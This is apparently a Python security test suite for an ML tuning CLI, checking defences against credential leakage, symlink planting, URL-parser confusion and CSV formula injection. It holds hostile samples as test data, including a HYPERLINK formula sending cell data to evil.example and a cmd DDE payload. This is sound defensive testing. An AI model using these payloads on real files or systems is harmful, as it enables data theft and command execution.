"""Hostile inputs, third round (issue 30, first half): credentials in URIs, the Ray Jobs address, resumes of
another sweep, symlinks planted in generated folders, `report --out` into a user's folder, formulas in CSV
cells, markup in names, token files that are not files, `avtune ui` killed, Ctrl-C."""
from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from orchestrator.specs import SpecError, load_spec

REPO = Path(__file__).resolve().parents[1]
PASSWORD = "s3cretPW"


def sqlite_client(folder: Path):
    from mlflow.tracking import MlflowClient

    return MlflowClient(f"sqlite:///{folder / 'mlflow.db'}")


# ---- credentials in URIs ---------------------------------------------------------------------------


@pytest.mark.parametrize("uri, what", [
    (f"http://alice:{PASSWORD}@127.0.0.1:5123", "a user name or password"),
    (f"https://{PASSWORD}@mlflow.example.org", "a user name or password"),
    (f"https://mlflow.example.org/?token={PASSWORD}", "the query key 'token'"),
    (f"postgresql://alice:{PASSWORD}@db/mlflow", "a user name or password"),
])
def test_a_spec_may_not_hold_tracking_credentials(uri, what):
    """Params and the spec.yaml artifact cannot be edited: the spec is refused, naming the field, the
    password not echoed."""
    with pytest.raises(SpecError, match=rf"tracking\.tracking_uri: .*holds {what}.*MLFLOW_TRACKING_USERNAME") as err:
        load_spec({"tracking": {"tracking_uri": uri}})
    assert PASSWORD not in str(err.value)
    assert load_spec({"tracking": {"tracking_uri": "http://127.0.0.1:5123/?workspace=x"}})  # no secret: fine


def test_redact_uri_hides_every_form_of_credential_and_never_raises():
    from orchestrator.tracking import redact_uri, split_credentials

    assert redact_uri(f"https://{PASSWORD}@host/x") == "https://***@host/x"
    assert redact_uri(f"http://host:5000/?token={PASSWORD}&workspace=w") == "http://host:5000/?token=***&workspace=w"
    assert redact_uri(f"http://alice:{PASSWORD}@host:port/") == "http://alice:***@host:port/"  # a bad port: no raise
    assert PASSWORD not in redact_uri(f"http://alice:{PASSWORD}@[::1/")  # unparseable: still hidden
    assert redact_uri(f"postgresql://alice:{PASSWORD}@db/m") == "postgresql://alice:***@db/m"
    assert redact_uri("sqlite:////abs/path/mlflow.db") == "sqlite:////abs/path/mlflow.db"
    assert split_credentials(f"https://{PASSWORD}@host") == ("https://host", {"MLFLOW_TRACKING_TOKEN": PASSWORD})


def test_credentials_never_reach_a_message_a_tag_or_mlflows_own_lines(mlflow_server, tmp_path, monkeypatch, capsys):
    """MLFLOW_TRACKING_URI with user:password: avtune's clients get the URI without them (MLflow's credential
    variables carry them); MLflow's "View run ... at" line, avtune's error texts (experiment / sweep /
    init_from / resume run not found) and a run's error tag never show the password."""
    from mlflow.tracking import MlflowClient

    import orchestrator.sweep as sweep
    from orchestrator.report import resolve_sweep
    from orchestrator.tracking import finish_run, resolve_tracking_uri
    from orchestrator.training import fetch_final_checkpoint

    secret_uri = mlflow_server.uri.replace("http://", f"http://alice:{PASSWORD}@")
    for name in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "MLFLOW_TRACKING_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", secret_uri)
    uri = resolve_tracking_uri(None, tmp_path)
    assert uri == mlflow_server.uri and os.environ["MLFLOW_TRACKING_PASSWORD"] == PASSWORD
    assert os.environ["MLFLOW_TRACKING_URI"] == mlflow_server.uri
    client = MlflowClient(uri)
    run_id = client.create_run(client.create_experiment("creds")).info.run_id
    finish_run(client, run_id)  # MLflow prints "View run ... at: <host>/#/..." here
    messages = []
    for call in (lambda: resolve_sweep(client, "no-such-experiment"),
                 lambda: resolve_sweep(client, "creds", "0" * 32),
                 lambda: fetch_final_checkpoint(client, "0" * 32, "avid", tmp_path),
                 lambda: sweep.check_resumable(client, load_spec({}), "0" * 32, "--resume-run"),
                 # a client built with the secret URI (the Python API): its messages are redacted too
                 lambda: resolve_sweep(MlflowClient(secret_uri), "no-such-experiment")):
        with pytest.raises((ValueError, SpecError)) as err:
            call()
        messages.append(str(err.value))
    shown = capsys.readouterr()
    # The error tag of a run closed through a client built with the secret URI (MLflow's own "View run"
    # line for such a client is MLflow's: avtune never builds one).
    api_client = MlflowClient(secret_uri)
    failed = api_client.create_run(api_client.get_experiment_by_name("creds").experiment_id).info.run_id
    finish_run(api_client, failed, RuntimeError(f"request to {secret_uri}/api failed"))
    tag = client.get_run(failed).data.tags["error"]
    assert "View run" in shown.out and mlflow_server.uri in shown.out
    for text in [*messages, tag, shown.out, shown.err]:
        assert PASSWORD not in text, text
    assert "not found at tracking URI http://alice:***@" in messages[-1]


def test_submit_moves_tracking_credentials_out_of_the_uploaded_spec():
    """`avtune submit --tracking-uri` wins over the spec's field in the job, and the uploaded spec.yaml
    holds the URI without its password (MLflow's variables carry it)."""
    from orchestrator.jobs import SubmitError, job_tracking
    from orchestrator.specs import dump_spec_yaml

    spec = load_spec({"name": "s", "tracking": {"tracking_uri": "http://old-server:5000"}})
    job_spec, env = job_tracking(spec, f"https://alice:{PASSWORD}@mlflow.example.org:5123")
    assert job_spec.tracking.tracking_uri == "https://mlflow.example.org:5123"
    assert env == {"MLFLOW_TRACKING_URI": "https://mlflow.example.org:5123", "MLFLOW_TRACKING_USERNAME": "alice",
                   "MLFLOW_TRACKING_PASSWORD": PASSWORD}
    assert PASSWORD not in dump_spec_yaml(job_spec) and "old-server" not in dump_spec_yaml(job_spec)
    with pytest.raises(SubmitError, match=r"--tracking-uri .*token=\*\*\*: holds the query key 'token'"):
        job_tracking(spec, f"https://mlflow.example.org/?token={PASSWORD}")


# ---- the Ray Jobs address and the token file --------------------------------------------------------


class Listener:
    """A TCP server on `host` that records every connection and what it was sent, answering 404."""

    def __init__(self, host: str, respond: bool = True):
        self.sock = socket.socket()
        self.sock.bind((host, 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.respond = respond
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(5)
            try:
                self.received.append(conn.recv(65536))
            except OSError:
                self.received.append(b"")
            if self.respond:
                conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                conn.close()

    def close(self):
        self.sock.close()


def test_the_jobs_address_is_rebuilt_so_the_token_goes_only_where_it_was_checked(tmp_path, monkeypatch):
    """`http://127.0.0.2:P\\@127.0.0.1:8265` passed the loopback check (urllib.parse: host 127.0.0.1) while
    the HTTP client connected to 127.0.0.2:P with the token: refused before any connection; ray:// and
    userinfo likewise, each with exit 2 and no traceback."""
    from typer.testing import CliRunner

    from orchestrator.cli import app
    from orchestrator.jobs import SubmitError, check_transport

    elsewhere = Listener("127.0.0.2")
    try:
        monkeypatch.setenv("RAY_AUTH_TOKEN", "T" * 32)
        for address in (f"http://127.0.0.2:{elsewhere.port}\\@127.0.0.1:8265", "ray://127.0.0.1:10001",
                        f"http://u:{PASSWORD}@127.0.0.1:8265", "http://127.0.0.1:8265/x?y"):
            res = CliRunner().invoke(app, ["jobs", "list", "--address", address])
            assert res.exit_code == 2 and "--address" in res.output, res.output
            assert "Traceback" not in res.output and PASSWORD not in res.output, res.output
        time.sleep(0.5)
        assert elsewhere.received == []
    finally:
        elsewhere.close()
    assert check_transport("127.0.0.1:8265") == "http://127.0.0.1:8265"
    assert check_transport("https://RAY.example.org:8265/") == "https://ray.example.org:8265"
    with pytest.raises(SubmitError, match="plain http to a non-loopback host"):
        check_transport("http://127.0.0.1.example.org:8265")


@pytest.mark.timeout(30)
def test_a_token_file_that_is_not_a_small_regular_file_is_refused_at_once(tmp_path):
    from orchestrator.jobs import SubmitError, read_auth_token

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)  # reading it would block until a writer comes
    huge = tmp_path / "huge"
    with open(huge, "wb") as handle:
        handle.truncate(1 << 30)  # sparse: 1 GiB read into memory by the old code
    for path, match in ((fifo, "not a regular file"), (Path("/dev/null"), "not a regular file"),
                        (huge, "1073741824 bytes, not a token"), (tmp_path, "not a regular file")):
        with pytest.raises(SubmitError, match=rf"--token-file: .*{match}"):
            read_auth_token(path)


# ---- resumes ----------------------------------------------------------------------------------------


def sweep_spec(tmp_path: Path, synth_dataset: Path, name: str = "mine", **extra) -> object:
    return load_spec({"name": name, "data": {"source": "dataset", "root": str(synth_dataset)},
                      "storage": {"runs_dir": str(tmp_path / "runs")}, "search": {"compare": ["normal"]}, **extra})


def make_parent(spec, status: str) -> str:
    """A sweep parent run of `spec` as run_sweep starts it, ended with `status`."""
    from mlflow.tracking import MlflowClient

    from orchestrator.training import ensure_data, start_mlflow_run
    from orchestrator.tracking import resolve_tracking_uri

    spec = ensure_data(spec)
    client = MlflowClient(resolve_tracking_uri(None, spec.storage.runs_dir))
    _, run_id = start_mlflow_run(client, spec, tags={"avtune.kind": "sweep"}, run_name=f"sweep_{spec.name}")
    client.set_terminated(run_id, status)
    return run_id


def test_a_resume_reopens_only_its_own_interrupted_sweep(tmp_path, synth_dataset, monkeypatch):
    """--resume-run of another experiment's FINISHED sweep, --resume whose file (keyed by the spec's name)
    names the sweep of another spec of the same name, and a finished sweep of this spec are refused
    before anything changes: the runs keep their state. A spec edited into invalid search values is refused
    on resume too."""
    import orchestrator.sweep as sweep

    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)

    def no_ray(address=None):
        raise ConnectionError("the test stops here: Ray would start now")

    monkeypatch.setattr(sweep, "connect_ray", no_ray)
    mine = sweep_spec(tmp_path, synth_dataset)
    theirs = sweep_spec(tmp_path, synth_dataset, tracking={"experiment": "theirs"})
    finished_elsewhere = make_parent(theirs, "FINISHED")
    with pytest.raises(SpecError, match=r"--resume-run: run \w+ is a sweep of experiment 'theirs', not of this spec's 'mine'"):
        sweep.run_sweep(mine, resume=finished_elsewhere)
    same_name = sweep_spec(tmp_path, synth_dataset, train={"epochs": 7})
    failed_other_spec = make_parent(same_name, "FAILED")
    sweep.write_state(sweep.sweep_state_file(mine), {"parent_run_id": failed_other_spec})
    with pytest.raises(SpecError, match=r"--resume: sweep \w+ was started from another spec: train\.epochs \('7' then, '3' now\)"):
        sweep.run_sweep(mine, resume=True)
    finished_mine = make_parent(mine, "FINISHED")
    with pytest.raises(SpecError, match=r"--resume-run: sweep \w+ is FINISHED, nothing to resume"):
        sweep.run_sweep(mine, resume=finished_mine)
    client = sqlite_client(tmp_path / "runs")
    assert [client.get_run(r).info.status for r in (finished_elsewhere, failed_other_spec, finished_mine)] == \
        ["FINISHED", "FAILED", "FINISHED"]
    bad = sweep_spec(tmp_path, synth_dataset, search={"compare": ["normal"], "space": {"train.epochs": {"grid": [0]}}})
    with pytest.raises(SpecError, match="search.space has invalid"):
        sweep.run_sweep(bad, resume=True)


def test_a_resume_unpickles_only_a_tuner_file_the_user_wrote(tmp_path, synth_dataset, monkeypatch):
    import orchestrator.sweep as sweep

    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.setattr(sweep, "connect_ray", lambda address=None: (_ for _ in ()).throw(ConnectionError("no Ray")))
    spec = sweep_spec(tmp_path, synth_dataset)
    parent = make_parent(spec, "FAILED")
    folder = tmp_path / "runs" / "ray" / f"{spec.name}-{parent[:8]}"
    folder.mkdir(parents=True)
    (folder / "tuner.pkl").write_bytes(b"a pickle someone else could have written")
    os.chmod(folder / "tuner.pkl", 0o666)
    with pytest.raises(PermissionError, match=r"tuner\.pkl is writable by other users .*--resume-run"):
        sweep.run_sweep(spec, resume=parent)
    assert sqlite_client(tmp_path / "runs").get_run(parent).info.status == "FAILED"  # not reopened


# ---- folders: generated clips and reports ------------------------------------------------------------

SMALL = dict(layout="avtune", classes=2, clips_per_class=2, clip_seconds=0.5, fps=4, height=16, width=16)


def test_the_generator_follows_no_symlink(tmp_path):
    """A planted `.avtune-generated -> victim` (the old code wrote the marker through it and generated into
    the user's folder), a `clips/` symlink inside a generated folder, a symlinked output folder and a
    card.json copied into a foreign folder: each refused, nothing outside written."""
    from orchestrator.synth import GENERATOR_MARKER, synthesize_dataset

    victim = tmp_path / "victim.txt"
    victim.write_text("the user's file")
    users = tmp_path / "users"
    users.mkdir()
    (users / "notes.txt").write_text("mine")
    (users / GENERATOR_MARKER).symlink_to(victim)
    with pytest.raises(FileExistsError, match="not empty and was not made by the clip generator"):
        synthesize_dataset(users, **SMALL)
    assert victim.read_text() == "the user's file" and sorted(p.name for p in users.iterdir()) == [GENERATOR_MARKER, "notes.txt"]

    gen = tmp_path / "gen"
    synthesize_dataset(gen, **SMALL)
    card, manifest = (gen / "card.json").read_bytes(), (gen / "manifest.csv").read_bytes()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    import shutil

    shutil.rmtree(gen / "clips")
    (gen / "clips").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(FileExistsError, match=r"clips is a symbolic link inside"):
        synthesize_dataset(gen, **SMALL)
    assert list(elsewhere.iterdir()) == [] and (gen / "card.json").read_bytes() == card  # refused before any change

    link = tmp_path / "link"
    link.symlink_to(tmp_path / "new-target", target_is_directory=True)
    with pytest.raises(FileExistsError, match="is a symbolic link"):
        synthesize_dataset(link, **SMALL)

    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "thesis.tex").write_text("years of work")
    (foreign / "card.json").write_bytes(card)
    (foreign / "manifest.csv").write_bytes(manifest)
    with pytest.raises(FileExistsError, match="not empty and was not made by the clip generator"):
        synthesize_dataset(foreign, **SMALL)
    assert sorted(p.name for p in foreign.iterdir()) == ["card.json", "manifest.csv", "thesis.tex"]


def test_data_synth_into_a_foreign_folder_names_out_without_a_traceback(tmp_path):
    from typer.testing import CliRunner

    from orchestrator.cli import app

    (tmp_path / "mine.txt").write_text("mine")
    res = CliRunner().invoke(app, ["data", "synth", "--out", str(tmp_path), "--classes", "2", "--clips-per-class", "2"])
    assert res.exit_code == 2 and "--out:" in res.output and "not made by the clip generator" in res.output, res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)


def test_report_out_never_replaces_a_users_files(tmp_path):
    """`report --out ~/somewhere`: the old code deleted the user's gblend_weights.png and replaced their
    report.html and leaderboard.csv. Now a folder not made by the report is refused before anything is
    read or written; a new folder works and can be written again."""
    from test_report import HAND_TRIALS, write_hand_sweep
    from typer.testing import CliRunner

    from orchestrator.cli import app
    from orchestrator.report import build_report

    uri = f"sqlite:///{tmp_path / 'm.db'}"
    write_hand_sweep(uri, "hand", HAND_TRIALS)
    users = tmp_path / "somewhere"
    users.mkdir()
    planted = {"gblend_weights.png": b"my plot", "report.html": b"<p>my report</p>", "leaderboard.csv": b"mine,1\n"}
    for name, data in planted.items():
        (users / name).write_bytes(data)
    res = CliRunner().invoke(app, ["report", "hand", "--out", str(users), "--tracking-uri", uri])
    assert res.exit_code == 2 and f"--out: {users} is not empty and was not made by avtune report" in res.output.replace("\n", ""), res.output
    assert {p.name: p.read_bytes() for p in users.iterdir()} == planted
    for _ in range(2):
        assert build_report("hand", tracking_uri=uri, out_dir=tmp_path / "new").is_file()
    # Inside a report's own folder, a symlink planted under a file's name (or its partial name) is refused before
    # anything is written (and the writes themselves replace a link, never write through one): the files the
    # links point to stay as they were.
    victim, other = tmp_path / "victim.csv", tmp_path / "other.csv"
    victim.write_bytes(b"keep me\n")
    other.write_bytes(b"me too\n")
    for name, target in (("leaderboard.csv", victim), (".imbalance_summary.csv.partial", other)):
        (tmp_path / "new" / name).unlink(missing_ok=True)
        (tmp_path / "new" / name).symlink_to(target)
    with pytest.raises(FileExistsError, match="is a symbolic link inside"):
        build_report("hand", tracking_uri=uri, out_dir=tmp_path / "new")
    assert victim.read_bytes() == b"keep me\n" and other.read_bytes() == b"me too\n"


def test_csv_cells_meant_for_people_carry_no_formula(tmp_path):
    """A run named `=HYPERLINK(...)` and a clip id `=cmd|...`: the report's imbalance_summary.csv and a run's
    predictions.csv start no cell with a formula character; numbers stay numbers."""
    import pandas as pd
    from test_report import HAND_TRIALS, write_hand_sweep

    from orchestrator.report import build_report
    from orchestrator.training import log_predictions
    from workers.evaluation import PREDICTION_COLUMNS

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    trials = dict(HAND_TRIALS)
    first = next(iter(trials))
    trials = {hostile if name == first else name: value for name, value in trials.items()}
    uri = f"sqlite:///{tmp_path / 'm.db'}"
    client, _, ids = write_hand_sweep(uri, "hand", trials)
    report = build_report("hand", tracking_uri=uri, out_dir=tmp_path / "out")
    summary = pd.read_csv(report.parent / "imbalance_summary.csv", dtype=str, keep_default_na=False)
    cells = [c for c in summary.to_numpy().ravel() if c]
    assert f"'{hostile}" in cells
    assert not [c for c in cells if c[0] in "=+@\t\r" or (c[0] == "-" and not _number(c))]

    row = {c: 0 for c in PREDICTION_COLUMNS} | {"clip_id": "=cmd|' /C calc'!A0", "split": "val"}
    log_predictions(client, ids[hostile], [row])
    local = client.download_artifacts(ids[hostile], "predictions.csv", str(tmp_path))
    written = pd.read_csv(local, dtype=str)
    assert written["clip_id"].tolist() == ["'=cmd|' /C calc'!A0"]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


# ---- the command line ----------------------------------------------------------------------------------


def test_names_with_markup_are_printed_as_they_are(tmp_path):
    from typer.testing import CliRunner

    from orchestrator.cli import app

    res = CliRunner().invoke(app, ["runs", "[/]", "--runs-dir", str(tmp_path), "--tracking-uri",
                                   f"sqlite:///{tmp_path / 'm.db'}"])
    assert res.exit_code == 2 and "experiment '[/]' not found" in res.output, (res.output, res.exception)


@pytest.mark.timeout(120)
def test_ctrl_c_exits_130_and_says_so(tmp_path):
    """Ctrl-C while a command waits on the network: exit code 130 (128 + SIGINT), as a shell expects, and a line
    saying it was interrupted."""
    silent = Listener("127.0.0.1", respond=False)  # accepts and never answers
    env = {**os.environ, "RAY_AUTH_TOKEN": "T" * 32}
    proc = subprocess.Popen([sys.executable, "-m", "orchestrator.cli", "jobs", "list", "--address",
                             f"http://127.0.0.1:{silent.port}"], cwd=REPO, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, start_new_session=True)
    try:
        deadline = time.monotonic() + 90
        while not silent.received and time.monotonic() < deadline:
            time.sleep(0.2)
        assert silent.received, "the command never connected"
        os.killpg(proc.pid, signal.SIGINT)
        out, _ = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
        silent.close()
    assert proc.returncode == 130 and b"interrupted" in out, (proc.returncode, out[-2000:])


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_avtune_ui_killed_leaves_no_server_and_never_shows_the_store_uri_in_argv(tmp_path):
    """SIGKILL of `avtune ui` (no handler runs) still ends its `mlflow server` (the kernel's parent-death
    signal); the store's URI, which may hold a database password, is not on any command line."""

    from conftest import free_port, wait_for_health
    from test_ui_command import process_table, started_by, still_running

    port = free_port()
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_TRACKING_URI"}
    ui = subprocess.Popen([sys.executable, "-m", "orchestrator.cli", "ui", "--runs-dir", str(tmp_path / "runs"),
                           "--port", str(port)], cwd=REPO, env=env, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, start_new_session=True)
    before: dict[int, dict] = {}
    try:
        wait_for_health(ui, f"http://127.0.0.1:{port}", what="avtune ui")
        before = started_by(ui.pid, process_table())
        assert not [c["cmd"] for c in before.values() if "mlflow.db" in c["cmd"]], before
        ui.kill()
        ui.wait(10)
        deadline = time.monotonic() + 60
        while still_running(before) and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not still_running(before)
    finally:
        if ui.poll() is None:
            ui.kill()
        for pid in still_running(before):
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass


def test_report_files_replace_a_link_planted_after_the_folder_check(tmp_path):
    """A link planted between the folder check and the write (under the file's name or its partial name) is
    replaced by the file, never written through."""
    from orchestrator.report.html import _write_atomic

    victim, other = tmp_path / "victim.csv", tmp_path / "other.csv"
    victim.write_text("keep me\n")
    other.write_text("me too\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "leaderboard.csv").symlink_to(victim)
    (out / ".leaderboard.csv.partial").symlink_to(other)
    _write_atomic(out / "leaderboard.csv", "method,acc\n")
    assert victim.read_text() == "keep me\n" and other.read_text() == "me too\n"
    assert not (out / "leaderboard.csv").is_symlink() and (out / "leaderboard.csv").read_text() == "method,acc\n"
